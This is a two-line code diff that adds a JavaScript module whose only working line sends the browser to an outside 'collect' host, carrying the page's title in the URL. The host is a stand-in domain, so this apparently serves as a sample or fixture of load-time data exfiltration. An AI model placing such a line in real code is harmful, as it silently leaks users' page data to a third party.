@@ -1,0 +1,2 @@
+location.replace(`//collect.example.net/${document.title}`);
+export {};
